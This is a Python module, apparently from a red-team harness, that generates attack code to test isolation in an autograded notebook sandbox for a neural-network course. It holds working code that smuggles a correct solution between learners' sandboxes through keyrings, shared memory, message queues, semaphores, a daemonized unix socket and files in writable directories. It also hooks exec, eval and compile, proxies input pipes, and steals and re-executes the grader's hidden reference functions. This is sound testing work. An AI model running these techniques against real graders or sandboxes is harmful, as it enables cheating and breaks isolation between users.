"""Pieces of learner code shared by the attacks (each attack's CODE is a plain string built from them).

Everything here runs *inside* the learner's notebook (the sandbox), never in the harness. The harness
substitutes two placeholders before submitting: @RTNAME@ (the attack's name) and @RTNONCE@ (a fresh
token per harness run, so that something left over from an earlier run is never mistaken for a leak).

Markers. An attack that finds something it should not have (a secret, a correct implementation, another
process's memory, a limit it could exceed) says so with a marker built at run time, never written
literally in the source (the autograded notebook contains the source):

    RTLEAK<<name:what>> details       the attack obtained something secret or an answer
    RTBREACH<<name:what>> details     the attack exceeded a promised limit or crossed a boundary
    RTINJECT<<name:what>> details     text the attack tried to plant in someone else's output

The harness looks for these in every autograded notebook, feedback page and printed output.
Everything an attack notes is printed by the learner's own graded functions when the grader calls them
(what a learner function prints reaches its feedback: the first lines of about 2,000 characters), so
the attacker reads its findings in its own feedback, as a real attacker would.
"""

FUNCS = {
    "regression": ["forward", "backward", "update", "train"],
    "classification": ["forward", "backward", "update", "train"],
    "xor": ["forward", "backward", "train"],
    "layers": ["dense_forward", "dense_backward", "activation_forward", "activation_backward",
               "loss_forward_backward", "model_forward", "model_backward", "numerical_gradient", "gradient_check"],
    "warmup": ["chain_factors", "chain_product", "step"],
    "why": [],
    "quiz": [],
}


def prelude(assignment: str) -> str:
    """Reporting helpers, defined first in every attack cell."""
    return f'''
# ---- red team: reporting helpers -------------------------------------------------------------
import os as _rt_os, sys as _rt_sys, functools as _rt_functools
_RT_NAME = "@RTNAME@"
_RT_NONCE = "@RTNONCE@"
_RT_FUNCS = {FUNCS[assignment]!r}
_rt_marks, _rt_notes = [], []
_rt_hooks = []  # callables run with the function's name before each graded call


def _rt_note(*parts):
    try:
        _rt_notes.append(" ".join(str(p) for p in parts)[:4000])
    except BaseException:
        pass


def _rt_mark(kind, what, text=""):
    try:
        _rt_marks.append("RT" + kind + "<" + "<" + _RT_NAME + ":" + str(what) + ">" + "> " + str(text)[:1500])
    except BaseException:
        pass


def _rt_text():
    return " | ".join(_rt_marks + _rt_notes)


def _rt_print(k):
    try:
        text = _rt_text()
        k = k % max(1, -(-len(text) // 1800))  # short findings: every function prints them from the start
        text = text[k * 1800:(k + 1) * 1800]
        for i in range(0, len(text), 360):
            print(text[i:i + 360])
    except BaseException:
        pass


def _rt_wrap(k, f):
    @_rt_functools.wraps(f)
    def wrapper(*args, **kwargs):
        for hook in list(_rt_hooks):
            try:
                hook(f.__name__)
            except BaseException:
                pass
        try:
            return f(*args, **kwargs)
        finally:
            _rt_print(k)
    wrapper._rt_wrapped = True
    return wrapper


def _rt_install():
    g = globals()
    for k, name in enumerate(_RT_FUNCS):
        f = g.get(name)
        if callable(f) and not getattr(f, "_rt_wrapped", False):
            g[name] = _rt_wrap(k, f)
# ---- end of reporting helpers ------------------------------------------------------------------
'''


# A compact correct regression solution: what a cheating writer hands to a classmate.
REGRESSION_PAYLOAD = '''
def forward(x, params):
    z1 = x @ params["W1"] + params["b1"]
    z2 = z1 @ params["W2"] + params["b2"]
    return float(z2), {"x": x, "z1": z1, "h": z1, "z2": float(z2)}


def backward(y, y_hat, cache, params):
    g2 = -2.0 * (y - y_hat)
    g1 = g2 * params["W2"]
    return {"W1": np.outer(cache["x"], g1), "b1": g1, "W2": g2 * cache["h"], "b2": float(g2)}


def update(params, grads, lr):
    return {k: params[k] - lr * grads[k] for k in params}


def train(X, y, params, lr, epochs):
    out = np.zeros(epochs)
    for e in range(epochs):
        total = 0.0
        for xi, yi in zip(X, y):
            yh, c = forward(xi, params)
            total += loss(yi, yh)
            params = update(params, backward(yi, yh, c, params), lr)
        out[e] = total / len(X)
    return out, params
'''

# Carriers: ways a blob could travel from one learner's sandbox to another's. Each put returns a short
# status string; each get returns the blob (bytes) or None. The blob is tagged with the run's nonce.
CARRIERS = r'''
# ---- red team: carriers between sandboxes ------------------------------------------------------
import ctypes as _rt_ct, time as _rt_time, zlib as _rt_zlib, socket as _rt_socket
_rt_libc = _rt_ct.CDLL(None, use_errno=True)
_rt_libc.syscall.restype = _rt_ct.c_long
_RT_DESC = ("rt-backprop-" + _RT_NONCE + "-" + _RT_NAME).encode()  # one name per attack: readers find their writer's
_RT_PREFIX = b"RTBLOB1:" + _RT_NONCE.encode() + b":"
_RT_KEY = 0x52540000 | (_rt_zlib.crc32(_RT_DESC) & 0xFFFF)
_RT_FILE = "rt-backprop-" + _RT_NONCE + "-" + _RT_NAME + ".blob"


def _rt_blob(kind, data):
    return _RT_PREFIX + kind + b":" + _rt_zlib.compress(data, 9)


def _rt_syscall(n, *args):
    r = _rt_libc.syscall(_rt_ct.c_long(n), *args)
    return r, _rt_ct.get_errno()


def _rt_rings():
    rings = {"thread": -1, "process": -2, "session": -3, "user": -4, "user-session": -5}
    r, e = _rt_syscall(250, _rt_ct.c_long(22), _rt_ct.c_long(-1), _rt_ct.c_long(0))  # KEYCTL_GET_PERSISTENT
    if r > 0:
        rings["persistent"] = r
    return rings


def _rt_put_keyring(blob):
    out = []
    for name, ring in _rt_rings().items():
        r, e = _rt_syscall(248, _rt_ct.c_char_p(b"user"), _rt_ct.c_char_p(_RT_DESC), _rt_ct.c_char_p(blob),
                           _rt_ct.c_size_t(len(blob)), _rt_ct.c_long(ring))
        if r > 0:
            _rt_syscall(250, _rt_ct.c_long(5), _rt_ct.c_long(r), _rt_ct.c_ulong(0x3f3f3f3f))  # KEYCTL_SETPERM
        out.append(f"{name}={r if r > 0 else 'errno%d' % e}")
    return "keyring " + " ".join(out)


def _rt_get_keyring():
    for name, ring in _rt_rings().items():
        key, e = _rt_syscall(250, _rt_ct.c_long(10), _rt_ct.c_long(ring), _rt_ct.c_char_p(b"user"),
                             _rt_ct.c_char_p(_RT_DESC), _rt_ct.c_long(0))  # KEYCTL_SEARCH
        if key > 0:
            buf = _rt_ct.create_string_buffer(65536)
            n, e = _rt_syscall(250, _rt_ct.c_long(11), _rt_ct.c_long(key), buf, _rt_ct.c_long(65536))  # KEYCTL_READ
            if n > 0:
                return buf.raw[:n]
    key, e = _rt_syscall(249, _rt_ct.c_char_p(b"user"), _rt_ct.c_char_p(_RT_DESC), None, _rt_ct.c_long(0))
    if key > 0:
        buf = _rt_ct.create_string_buffer(65536)
        n, e = _rt_syscall(250, _rt_ct.c_long(11), _rt_ct.c_long(key), buf, _rt_ct.c_long(65536))
        if n > 0:
            return buf.raw[:n]
    return None


class _rt_mq_attr(_rt_ct.Structure):
    _fields_ = [("flags", _rt_ct.c_long), ("maxmsg", _rt_ct.c_long), ("msgsize", _rt_ct.c_long),
                ("curmsgs", _rt_ct.c_long), ("pad", _rt_ct.c_long * 4)]


def _rt_put_mq(blob):
    name = _RT_DESC
    for maxmsg, size in ((4, 8192), (1, 8192), (1, len(blob))):
        attr = _rt_mq_attr(0, maxmsg, size, 0)
        fd, e = _rt_syscall(240, _rt_ct.c_char_p(name), _rt_ct.c_int(0o100 | 0o2 | 0o4000), _rt_ct.c_int(0o666),
                            _rt_ct.byref(attr))  # mq_open(O_CREAT|O_RDWR|O_NONBLOCK)
        if fd >= 0:
            r, e = _rt_syscall(242, _rt_ct.c_int(fd), _rt_ct.c_char_p(blob), _rt_ct.c_size_t(len(blob)),
                               _rt_ct.c_uint(0), None)
            return f"mq fd={fd} send={r} errno={e}"
    return f"mq open errno={e}"


def _rt_get_mq():
    fd, e = _rt_syscall(240, _rt_ct.c_char_p(_RT_DESC), _rt_ct.c_int(0o2 | 0o4000), _rt_ct.c_int(0), None)
    if fd < 0:
        return None
    buf = _rt_ct.create_string_buffer(65536)
    n, e = _rt_syscall(243, _rt_ct.c_int(fd), buf, _rt_ct.c_size_t(65536), None, None)
    if n > 0:
        data = buf.raw[:n]
        _rt_syscall(242, _rt_ct.c_int(fd), _rt_ct.c_char_p(data), _rt_ct.c_size_t(n), _rt_ct.c_uint(0), None)
        return data
    return None


def _rt_put_shm(blob):
    _rt_libc.shmat.restype = _rt_ct.c_void_p
    _rt_libc.shmat.argtypes = [_rt_ct.c_int, _rt_ct.c_void_p, _rt_ct.c_int]
    sid = _rt_libc.shmget(_rt_ct.c_int(_RT_KEY), _rt_ct.c_size_t(1 << 16), _rt_ct.c_int(0o1000 | 0o666))
    if sid < 0:
        return f"shm errno={_rt_ct.get_errno()}"
    addr = _rt_libc.shmat(sid, None, 0)
    if not addr or addr == _rt_ct.c_void_p(-1).value:
        return f"shmat errno={_rt_ct.get_errno()}"
    data = len(blob).to_bytes(4, "little") + blob
    _rt_ct.memmove(addr, data, len(data))
    return f"shm id={sid}"


def _rt_get_shm():
    _rt_libc.shmat.restype = _rt_ct.c_void_p
    _rt_libc.shmat.argtypes = [_rt_ct.c_int, _rt_ct.c_void_p, _rt_ct.c_int]
    sid = _rt_libc.shmget(_rt_ct.c_int(_RT_KEY), _rt_ct.c_size_t(0), _rt_ct.c_int(0))
    if sid < 0:
        return None
    addr = _rt_libc.shmat(sid, None, 0o10000)  # SHM_RDONLY
    if not addr or addr == _rt_ct.c_void_p(-1).value:
        return None
    n = int.from_bytes(_rt_ct.string_at(addr, 4), "little")
    return _rt_ct.string_at(addr + 4, n) if 0 < n < (1 << 16) else None


class _rt_msgbuf(_rt_ct.Structure):
    _fields_ = [("mtype", _rt_ct.c_long), ("mtext", _rt_ct.c_char * 8192)]


def _rt_put_msg(blob):
    qid = _rt_libc.msgget(_rt_ct.c_int(_RT_KEY), _rt_ct.c_int(0o1000 | 0o666))
    if qid < 0:
        return f"msg errno={_rt_ct.get_errno()}"
    m = _rt_msgbuf()
    m.mtype = 1
    _rt_ct.memmove(_rt_ct.addressof(m) + _rt_ct.sizeof(_rt_ct.c_long), blob, len(blob))
    r = _rt_libc.msgsnd(qid, _rt_ct.byref(m), _rt_ct.c_size_t(len(blob)), _rt_ct.c_int(0o4000))
    return f"msg id={qid} send={r}"


def _rt_get_msg():
    qid = _rt_libc.msgget(_rt_ct.c_int(_RT_KEY), _rt_ct.c_int(0))
    if qid < 0:
        return None
    m = _rt_msgbuf()
    _rt_libc.msgrcv.restype = _rt_ct.c_ssize_t
    n = _rt_libc.msgrcv(qid, _rt_ct.byref(m), _rt_ct.c_size_t(8192), _rt_ct.c_long(0), _rt_ct.c_int(0o4000 | 0o10000))
    if n <= 0:
        return None
    data = _rt_ct.string_at(_rt_ct.addressof(m) + _rt_ct.sizeof(_rt_ct.c_long), n)
    _rt_libc.msgsnd(qid, _rt_ct.byref(m), _rt_ct.c_size_t(n), _rt_ct.c_int(0o4000))  # put it back for the next reader
    return data


def _rt_put_sem(blob):
    vals = [len(blob) >> 8, len(blob) & 0xFF] + list(blob)
    sid = _rt_libc.semget(_rt_ct.c_int(_RT_KEY), _rt_ct.c_int(len(vals)), _rt_ct.c_int(0o1000 | 0o666))
    if sid < 0:
        return f"sem errno={_rt_ct.get_errno()}"
    arr = (_rt_ct.c_ushort * len(vals))(*vals)
    r = _rt_libc.semctl(sid, 0, 17, arr)  # SETALL
    return f"sem id={sid} setall={r}"


def _rt_get_sem():
    sid = _rt_libc.semget(_rt_ct.c_int(_RT_KEY), _rt_ct.c_int(0), _rt_ct.c_int(0))
    if sid < 0:
        return None
    hi, lo = _rt_libc.semctl(sid, 0, 12), _rt_libc.semctl(sid, 1, 12)  # GETVAL
    n = (hi << 8) | lo
    if not 0 < n < 32000:
        return None
    arr = (_rt_ct.c_ushort * (n + 2))()
    if _rt_libc.semctl(sid, 0, 13, arr) < 0:  # GETALL
        return None
    return bytes(v & 0xFF for v in arr[2:])


def _rt_put_socket(blob, seconds=90):
    """A daemon (double fork, new session) serving the blob on an abstract unix socket."""
    r, w = _rt_os.pipe()
    pid = _rt_os.fork()
    if pid == 0:
        try:
            _rt_os.setsid()
            if _rt_os.fork():
                _rt_os._exit(0)
            for fd in range(3, 1024):
                if fd != w:
                    try:
                        _rt_os.close(fd)
                    except OSError:
                        pass
            s = _rt_socket.socket(_rt_socket.AF_UNIX, _rt_socket.SOCK_STREAM)
            s.bind(b"\0" + _RT_DESC)
            s.listen(16)
            s.settimeout(0.5)
            _rt_os.write(w, b"ok")
            _rt_os.close(w)
            end = _rt_time.time() + seconds
            while _rt_time.time() < end:
                try:
                    c, _ = s.accept()
                    c.sendall(blob)
                    c.close()
                except OSError:
                    pass
        except BaseException as exc:
            try:
                _rt_os.write(w, repr(exc).encode()[:200])
            except BaseException:
                pass
        finally:
            _rt_os._exit(0)
    _rt_os.close(w)
    _rt_os.waitpid(pid, 0)
    said = _rt_os.read(r, 300)
    _rt_os.close(r)
    return "socket daemon " + said.decode("utf8", "replace")


def _rt_get_socket():
    try:
        s = _rt_socket.socket(_rt_socket.AF_UNIX, _rt_socket.SOCK_STREAM)
        s.settimeout(1.0)
        s.connect(b"\0" + _RT_DESC)
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        return data or None
    except OSError:
        return None


def _rt_writable_dirs(limit=4000):
    seen, out = 0, []
    fixed = ["/tmp", "/dev/shm", "/var/tmp", _rt_os.environ.get("HOME", "/"), _rt_os.getcwd(), "/scratch",
             "/run/lock", "/run", "/dev/mqueue", "/home", "/root", "/", "/grader", "/dev"]
    for d in fixed:
        if d and _rt_os.path.isdir(d) and _rt_os.access(d, _rt_os.W_OK) and d not in out:
            out.append(d)
    for top, dirs, files in _rt_os.walk("/"):
        dirs[:] = [d for d in dirs if _rt_os.path.join(top, d) not in ("/proc", "/sys")]
        seen += 1
        if seen > limit:
            break
        if _rt_os.access(top, _rt_os.W_OK) and top not in out:
            out.append(top)
    return out


def _rt_put_files(blob):
    done = []
    for d in _rt_writable_dirs():
        try:
            p = _rt_os.path.join(d, _RT_FILE)
            with open(p, "wb") as f:
                f.write(blob)
            _rt_os.chmod(p, 0o666)
            done.append(d)
        except OSError:
            pass
    return "files in " + ",".join(done)


def _rt_get_files():
    places = ["/tmp", "/dev/shm", "/var/tmp", _rt_os.environ.get("HOME", "/"), _rt_os.getcwd(), "/scratch",
              "/run/lock", "/run", "/dev/mqueue", "/home", "/root", "/", "/grader", "/dev"]
    for d in places:
        try:
            with open(_rt_os.path.join(d or "/", _RT_FILE), "rb") as f:
                data = f.read()
            _rt_note("found in", d)
            return data
        except OSError:
            pass
    seen = 0
    for top, dirs, files in _rt_os.walk("/"):
        dirs[:] = [d for d in dirs if _rt_os.path.join(top, d) not in ("/proc", "/sys")]
        seen += 1
        if seen > 4000:
            break
        if _RT_FILE in files:
            try:
                with open(_rt_os.path.join(top, _RT_FILE), "rb") as f:
                    data = f.read()
                _rt_note("found in", top)
                return data
            except OSError:
                pass
    return None


_RT_CARRIERS = {"keyring": (_rt_put_keyring, _rt_get_keyring), "mq": (_rt_put_mq, _rt_get_mq),
                "shm": (_rt_put_shm, _rt_get_shm), "msg": (_rt_put_msg, _rt_get_msg),
                "sem": (_rt_put_sem, _rt_get_sem), "socket": (_rt_put_socket, _rt_get_socket),
                "files": (_rt_put_files, _rt_get_files)}


def _rt_put(carriers, blob):
    for c in carriers:
        try:
            _rt_note("put", c, _RT_CARRIERS[c][0](blob))
        except BaseException as exc:
            _rt_note("put", c, "failed", repr(exc)[:200])


def _rt_adopt(blob):
    """Define the functions a blob carries in this notebook. True when it did."""
    import marshal, pickle, types
    if not blob or not blob.startswith(_RT_PREFIX):
        return False
    kind, _, data = blob[len(_RT_PREFIX):].partition(b":")
    data = _rt_zlib.decompress(data)
    g = globals()
    if kind == b"src":
        exec(data.decode(), g)
        return True
    if kind == b"code":
        import builtins, importlib
        blob = pickle.loads(data)
        env = {"__builtins__": builtins}
        made = {}

        synth = {}

        def value(spec):
            kind, v = spec
            if kind == "module":
                return importlib.import_module(v)
            if kind == "func":
                return make(v)
            if kind == "synthmod":
                if v not in synth:
                    name, attrs = blob["mods"][v]
                    synth[v] = m = types.ModuleType(name)
                    for k, x in attrs.items():
                        if x[0] not in ("skip", "empty"):
                            setattr(m, k, value(x))
                return synth[v]
            return v

        def make(key):
            if key in made:
                return made[key]
            code, name, defaults, closure = blob["funcs"][key]
            code = marshal.loads(code)
            cells = [types.CellType() for _ in closure]
            f = types.FunctionType(code, env, name, defaults, tuple(cells) if cells else None)
            made[key] = f
            for cell, spec in zip(cells, closure):
                if spec[0] != "empty":
                    cell.cell_contents = value(spec)
            return f

        for n, spec in blob["globals"].items():
            if spec[0] != "skip":
                env[n] = value(spec)
        for name, key in blob["install"].items():
            g[name] = make(key)
        return True
    return False


def _rt_find(carriers, seconds=3.0):
    """Look for a classmate's blob in each carrier, for a few seconds (the writer may be graded in parallel)."""
    end = _rt_time.time() + seconds
    while True:
        for c in carriers:
            try:
                blob = _RT_CARRIERS[c][1]()
            except BaseException as exc:
                _rt_note("get", c, "failed", repr(exc)[:200])
                continue
            if blob and blob.startswith(_RT_PREFIX):
                return c, blob
        if _rt_time.time() > end:
            return None, None
        _rt_time.sleep(0.25)
# ---- end of carriers -----------------------------------------------------------------------------
'''


def carrier_writer(assignment: str, carriers: list[str]) -> str:
    """A classmate with a correct notebook who hands the solution to others through `carriers`."""
    return prelude(assignment) + CARRIERS + f'''
_rt_put({carriers!r}, _rt_blob(b"src", {REGRESSION_PAYLOAD!r}.encode()))
_rt_install()
'''


def carrier_reader(assignment: str, carriers: list[str]) -> str:
    """A classmate with an empty notebook who looks for the blob and, when found, uses it."""
    return prelude(assignment) + CARRIERS + f'''
_rt_c, _rt_b = _rt_find({carriers!r})
if _rt_c:
    _rt_mark("LEAK", "carrier-" + _rt_c, "a classmate's code arrived through " + _rt_c)
    try:
        _rt_adopt(_rt_b)
    except BaseException as _rt_exc:
        _rt_note("adopt failed", repr(_rt_exc)[:300])
else:
    _rt_note("nothing found in", {carriers!r})
_rt_install()
'''


# The thief: steals the correct building blocks (stand-ins) the grader puts in the learner's namespace
# while it grades a composition (a training loop, a network), and whatever source passes through exec,
# compile, json or the input pipe.
THIEF = r"""
# ---- red team: stand-in thief ------------------------------------------------------------------
_RT_PROXY = globals().get("_RT_PROXY", True)
import marshal as _rt_marshal, pickle as _rt_pickle, inspect as _rt_inspect, dis as _rt_dis, builtins as _rt_builtins
import json as _rt_json, threading as _rt_threading, fcntl as _rt_fcntl
_rt_sources = []   # source text seen passing by
_rt_stolen = {}    # name -> function that is not this notebook's


def _rt_foreign(f):
    code = getattr(f, "__code__", None)
    if code is None:
        return False
    fn = code.co_filename
    return not (fn.startswith("<cell") or "site-packages" in fn or "/lib/python" in fn or fn.startswith("<frozen"))


def _rt_seen(x):
    try:
        if isinstance(x, bytes):
            x = x.decode("utf8", "replace")
        if isinstance(x, str) and "def " in x and len(x) > 30:
            _rt_sources.append(x)
        elif isinstance(x, dict):
            for v in x.values():
                _rt_seen(v)
        elif isinstance(x, (list, tuple)):
            for v in x:
                _rt_seen(v)
    except BaseException:
        pass


def _rt_hook_builtins():
    for name in ("exec", "eval", "compile"):
        real = getattr(_rt_builtins, name)
        def spy(*args, _real=real, **kwargs):
            if args:
                _rt_seen(args[0])
            return _real(*args, **kwargs)
        setattr(_rt_builtins, name, spy)
    real_loads = _rt_json.loads
    def loads(*args, **kwargs):
        out = real_loads(*args, **kwargs)
        _rt_seen(out)
        return out
    _rt_json.loads = loads


def _rt_proxy_inputs():
    # every pipe this process reads from: read it ourselves, keep a copy, pass it on unchanged
    inputs = []
    for fd in range(3, 64):
        try:
            if not _rt_os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                continue
            if _rt_fcntl.fcntl(fd, _rt_fcntl.F_GETFL) & _rt_os.O_ACCMODE != _rt_os.O_RDONLY:
                continue
        except OSError:
            continue
        inputs.append(fd)
    for fd in inputs:
        real = _rt_os.dup(fd)
        r, w = _rt_os.pipe()
        _rt_os.dup2(r, fd)
        _rt_os.close(r)
        def pump(real=real, w=w):
            seen = b""
            while True:
                try:
                    chunk = _rt_os.read(real, 65536)
                except OSError:
                    chunk = b""
                if not chunk:
                    _rt_os.close(w)
                    return
                seen += chunk
                if b"def " in chunk:
                    _rt_seen(seen)
                _rt_os.write(w, chunk)
        _rt_threading.Thread(target=pump, daemon=True).start()
        _rt_note("proxying input pipe", fd)


def _rt_source_of(name, f):
    try:
        return _rt_inspect.getsource(f)
    except BaseException:
        pass
    for text in reversed(_rt_sources):
        k = text.find(f"def {name}(")
        if k >= 0:
            return text[k:k + 3000]
    try:
        return "(bytecode) " + _rt_dis.Bytecode(f).dis()
    except BaseException as exc:
        return f"(no source: {exc!r})"


def _rt_steal(names):
    g = globals()
    for name in names:
        f = g.get(name)
        if callable(f) and _rt_foreign(f) and name not in _rt_stolen:
            _rt_stolen[name] = f
            _rt_mark("LEAK", "standin-" + name, _rt_source_of(name, f)[:1200].replace("\n", " \\n "))
    return _rt_stolen


def _rt_code_blob():
    # each stolen function with what it needs: its closure cells, the functions and values it reads from
    # its globals (recursively), so that it runs the same in another notebook
    funcs, glob_specs = {}, {}

    def fid(f):
        key = id(f)
        if key in funcs:
            return key
        funcs[key] = None
        closure = []
        for cell in (f.__closure__ or ()):
            try:
                v = cell.cell_contents
            except ValueError:
                closure.append(("empty", None))
                continue
            closure.append(spec(v))
        names = set()
        def walk(code):
            names.update(code.co_names)
            for c in code.co_consts:
                if hasattr(c, "co_names"):
                    walk(c)
        walk(f.__code__)
        for n in names:
            if n in f.__globals__ and n not in glob_specs:
                glob_specs[n] = None
                glob_specs[n] = spec(f.__globals__[n])
        funcs[key] = (_rt_marshal.dumps(f.__code__), f.__name__, f.__defaults__, closure)
        return key

    mods = {}

    def spec(v):
        if isinstance(v, type(_rt_os)):
            if getattr(v, "__file__", None) or v.__name__ in _rt_sys.builtin_module_names:
                return ("module", v.__name__)
            if id(v) not in mods:  # a module made on the fly (the stand-ins'): its attributes travel
                mods[id(v)] = None
                mods[id(v)] = (v.__name__, {k: spec(x) for k, x in vars(v).items() if not k.startswith("__")})
            return ("synthmod", id(v))
        if isinstance(v, type(fid)):
            return ("func", fid(v))
        try:
            _rt_pickle.dumps(v)
            return ("value", v)
        except BaseException:
            return ("skip", None)

    install = {name: fid(f) for name, f in _rt_stolen.items()}
    return _rt_pickle.dumps({"install": install, "funcs": funcs, "globals": glob_specs, "mods": mods})


def _rt_say_stolen():
    # print what was stolen, first: the first lines of what a function prints reach its feedback
    text = " | ".join(m for m in _rt_marks if "standin-" in m) or ("nothing stolen; sources seen: %d" % len(_rt_sources))
    for i in range(0, min(len(text), 1800), 360):
        print(text[i:i + 360])


_rt_hook_builtins()
if _RT_PROXY:
    try:
        _rt_proxy_inputs()
    except BaseException as _rt_exc:
        _rt_note("input proxy failed", repr(_rt_exc))
# ---- end of thief --------------------------------------------------------------------------------
"""
